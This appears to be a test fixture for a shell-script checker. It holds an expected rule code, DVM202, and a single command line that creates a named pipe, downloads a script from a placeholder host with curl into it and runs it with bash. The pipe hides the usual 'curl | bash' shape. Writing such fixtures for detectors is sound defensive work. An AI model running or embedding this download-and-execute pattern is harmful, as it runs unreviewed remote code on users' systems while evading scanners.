# expect: DVM202
p=/tmp/f; mkfifo $p; curl -s https://x.example.org/i.sh > $p & bash < $p
